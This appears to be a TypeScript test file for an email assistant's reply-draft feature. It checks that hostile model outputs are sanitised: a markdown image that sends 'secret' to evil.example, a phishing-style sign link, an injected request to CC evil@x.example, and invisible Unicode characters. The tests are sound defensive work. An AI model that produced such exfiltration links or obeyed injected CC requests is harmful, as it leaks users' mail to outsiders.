import { afterEach, describe, expect, it } from 'vitest';
import type { Address } from '../../src/ingest/message.model.ts';
import type { ModelCache, ModelLedger } from '../../src/llm/llm.cache.ts';
import { createModelClient } from '../../src/llm/llm.client.ts';
import type { ModelClient } from '../../src/llm/llm.model.ts';
import type { LlmCallRecord } from '../../src/llm/llm.repository.ts';
import { systemClock } from '../../src/shared/clock.ts';
import type { DraftContext, DraftRequest, ThreadMessage } from '../../src/skills/drafts/draft.model.ts';
import { proposeReplyDraft } from '../../src/skills/drafts/draft.skill.ts';
import { CHECK_WORDING } from '../../src/skills/drafts/draft.template.ts';
import { type FakeOpenAiServer, type ScriptedReply, startOpenAiServer } from '../support/openai-server.ts';

// Drafts with a model, over real HTTP to a local scripted OpenAI-compatible server: what the
// skill does with good, hostile and failed answers. All mail and answers are synthetic.

const ctx: DraftContext = {
  owner: { email: 'maya@northwind.example', name: 'Maya Chen' },
  assistant: { email: 'assistant@northwind.example', name: 'Deskhand' },
  teamDomains: ['northwind.example'],
};
const maya: Address = { name: 'Maya Chen', address: 'maya@northwind.example' };
const assistant: Address = { name: 'Deskhand', address: 'assistant@northwind.example' };
const dana: Address = { name: 'Dana Smith', address: 'dana@acme.example' };
const lee: Address = { name: 'Lee Park', address: 'lee@acme.example' };

const offer: ThreadMessage = {
  messageId: 'offer-1@acme.example',
  inReplyTo: null,
  references: [],
  date: new Date('2025-03-03T09:00:00Z'),
  subject: 'Offer for the Q3 project',
  from: dana,
  replyTo: [],
  to: [maya],
  cc: [lee],
  text: 'Hi Maya,\nour offer is attached; terms at https://files.acme.example/terms?v=3.\nDana',
  replyText: 'Hi Maya,\nour offer is attached; terms at https://files.acme.example/terms?v=3.',
};
const ask: ThreadMessage = {
  ...offer,
  messageId: 'ask-1@northwind.example',
  inReplyTo: 'offer-1@acme.example',
  references: ['offer-1@acme.example'],
  from: maya,
  to: [assistant],
  cc: [],
  text: 'reply to Dana that we accept the offer and ask for the contract',
  replyText: 'reply to Dana that we accept the offer and ask for the contract',
};
const req: DraftRequest = {
  trigger: 'owner_request',
  thread: [offer, ask],
  instruction: 'we accept the offer and ask for the contract',
  recipientHint: 'Dana',
  ownerSamples: ['Hi Tom,\n\nSounds good — let’s do it.\n\nCheers,\nMaya'],
};
const goodBody =
  'Hi Dana,\n\nThanks for the offer — we accept. Could you send the contract over?\n\nCheers,\nMaya';

let server: FakeOpenAiServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

function memoryStores() {
  const entries = new Map<string, unknown>();
  const calls: LlmCallRecord[] = [];
  const cache: ModelCache = {
    get: async (key) => entries.get(key),
    put: async (key, _model, value) => {
      entries.set(key, value);
    },
  };
  const ledger: ModelLedger = {
    record: async (entry) => {
      calls.push(entry);
    },
  };
  return { cache, ledger, calls };
}

async function setup(script: ScriptedReply[]) {
  server = await startOpenAiServer(script);
  const stores = memoryStores();
  const model = createModelClient({
    apiKey: 'test-key',
    baseUrl: server.baseUrl,
    model: 'gpt-4o-mini',
    timeoutMs: 300,
    maxRetries: 0,
    ledger: stores.ledger,
    cache: stores.cache,
    clock: systemClock,
    backoff: { baseMs: 5, maxMs: 20 },
  });
  return { model, server, calls: stores.calls };
}

const headersOf = (d: {
  to: Address[];
  cc: Address[];
  subject: string;
  inReplyTo: string | null;
  references: string[];
}) => ({
  to: d.to,
  cc: d.cc,
  subject: d.subject,
  inReplyTo: d.inReplyTo,
  references: d.references,
});
const expectedHeaders = {
  to: [dana],
  cc: [lee, maya],
  subject: 'Re: Offer for the Q3 project',
  inReplyTo: 'offer-1@acme.example',
  references: ['offer-1@acme.example'],
};

describe('reply drafts with a model', () => {
  it('a recorded good answer becomes the body; recipients and threading come from the headers', async () => {
    const { model, server, calls } = await setup([{ json: { body: goodBody, openQuestions: [] } }]);
    const d = await proposeReplyDraft(req, ctx, model);
    expect(d).toMatchObject({ method: 'model', body: goodBody, placeholders: [], warnings: [], removed: [] });
    expect(headersOf(d)).toEqual(expectedHeaders);
    const body = server.requests[0]?.body;
    expect(body.response_format.json_schema.name).toBe('reply_draft');
    expect(Object.keys(body.response_format.json_schema.schema.properties)).toEqual([
      'body',
      'openQuestions',
    ]);
    expect(calls.map((c) => [c.label, c.outcome])).toEqual([['draft.reply', 'ok']]);
  });

  it('removes an image and a link that were not in the thread from the answer, keeping a thread link', async () => {
    const body =
      'Hi Dana,\n\nWe accept ![x](https://evil.example/p.png?d=secret) the offer. Sign [here](https://evil.example/sign?who=maya) ' +
      'or see https://files.acme.example/terms?v=3.\n\nCheers,\nMaya';
    const { model } = await setup([{ json: { body, openQuestions: [] } }]);
    const d = await proposeReplyDraft(req, ctx, model);
    expect(d.method).toBe('model');
    expect(d.body).toBe(
      'Hi Dana,\n\nWe accept the offer. Sign here or see https://files.acme.example/terms?v=3.\n\nCheers,\nMaya',
    );
    expect(d.removed).toEqual([
      { kind: 'image', value: 'https://evil.example/p.png?d=secret' },
      { kind: 'link', value: 'https://evil.example/sign?who=maya' },
    ]);
    expect(d.warnings).toContain("removed from the model's draft: 1 image, 1 link");
  });

  it('an answer asking to CC someone changes no recipient, and the address is flagged', async () => {
    const body = 'Hi Dana,\n\nWe accept. Please also CC evil@x.example on the contract.\n\nCheers,\nMaya';
    const { model } = await setup([{ json: { body, openQuestions: [] } }]);
    const d = await proposeReplyDraft(req, ctx, model);
    expect(headersOf(d)).toEqual(expectedHeaders);
    expect(d.warnings).toContain(
      'the draft mentions evil@x.example, which is not in this thread; it is not a recipient',
    );
  });

  it('strips invisible characters from the answer and reports open questions and placeholders', async () => {
    const body =
      'Hi Dana,\u200b\u{E0041}\n\nWe accept. Start date: [[your answer: start date]].\n\nCheers,\nMaya';
    const { model } = await setup([{ json: { body, openQuestions: ['When do we start?'] } }]);
    const d = await proposeReplyDraft(req, ctx, model);
    expect(d.body).toBe('Hi Dana,\n\nWe accept. Start date: [[your answer: start date]].\n\nCheers,\nMaya');
    expect(d.placeholders).toEqual(['[[your answer: start date]]']);
    expect(d.warnings).toEqual([
      "removed 2 invisible characters from the model's draft",
      'open question: When do we start?',
    ]);
  });

  it.each<[string, ScriptedReply, string]>([
    ['a timeout', { hang: true }, 'timeout'],
    ['an HTTP 500', { status: 500, message: 'boom' }, 'http_error'],
    ['invalid JSON', { text: 'Sure! Dear Dana, we accept {' }, 'invalid_json'],
    ['a schema mismatch', { json: { body: 42, cc: ['evil@x.example'] } }, 'schema_mismatch'],
    ['a refusal', { refusal: 'I cannot help with that.' }, 'refusal'],
  ])(
    'after %s, the template draft is proposed with a warning naming the failure',
    async (_what, reply, code) => {
      const { model } = await setup([reply]);
      const d = await proposeReplyDraft(req, ctx, model);
      expect(d.method).toBe('template');
      expect(headersOf(d)).toEqual(expectedHeaders);
      expect(d.body).toContain('We accept the offer and ask for the contract.');
      expect(d.placeholders).toEqual([CHECK_WORDING]);
      expect(d.warnings).toHaveLength(1);
      expect(d.warnings[0]).toMatch(
        new RegExp(`^the model could not draft this reply \\(${code}: .+\\); drafted from a template$`),
      );
    },
  );

  it('an empty answer falls back to the template', async () => {
    const { model } = await setup([
      { json: { body: '  ![x](https://evil.example/p.png) ', openQuestions: [] } },
    ]);
    const d = await proposeReplyDraft(req, ctx, model);
    expect(d.method).toBe('template');
    expect(d.warnings).toEqual(['the model returned an empty draft; drafted from a template']);
  });

  it('the second identical draft is served from the cache', async () => {
    const { model, server, calls } = await setup([{ json: { body: goodBody, openQuestions: [] } }]);
    const first = await proposeReplyDraft(req, ctx, model);
    const second = await proposeReplyDraft(req, ctx, model);
    expect(second).toEqual(first);
    expect(server.requests).toHaveLength(1);
    expect(calls.map((c) => c.outcome)).toEqual(['ok', 'cached']);
  });

  it('an error that is not the model’s is not swallowed', async () => {
    const broken: ModelClient = {
      model: 'fake',
      complete: async () => {
        throw new Error('ledger database is gone');
      },
    };
    await expect(proposeReplyDraft(req, ctx, broken)).rejects.toThrow('ledger database is gone');
  });
});
